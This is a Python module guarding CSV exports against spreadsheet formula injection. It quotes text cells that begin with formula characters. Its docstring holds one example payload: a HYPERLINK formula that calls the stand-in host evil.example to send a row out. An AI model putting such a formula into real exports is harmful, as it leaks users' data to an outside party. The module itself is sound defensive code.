"""CSV cells a spreadsheet will not run: the one guard of every CSV the project writes.

A spreadsheet reads a cell that begins with ``=``, ``+``, ``-`` or ``@`` as a
formula, and Excel also one that begins with a tab or a carriage return
followed by one (OWASP "CSV injection"): a customer named
``=HYPERLINK("http://evil.example/?"&A2, "open")`` would exfiltrate the row
when a partner opens the export. Such a text cell gets a leading single quote,
which spreadsheets show as text and do not evaluate. Numbers are left alone: a
negative number is a number, never a formula. JSON Lines keeps values exact.
"""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from typing import Any

#: What makes a spreadsheet evaluate a cell (OWASP, CSV Injection).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    """``value``, with a leading ``'`` if it is text a spreadsheet would evaluate."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    """A row for ``csv.writer``."""
    return [safe_cell(v) for v in values]


def safe_record(record: Mapping[str, Any]) -> dict[str, Any]:
    """A row for ``csv.DictWriter``."""
    return {k: safe_cell(v) for k, v in record.items()}
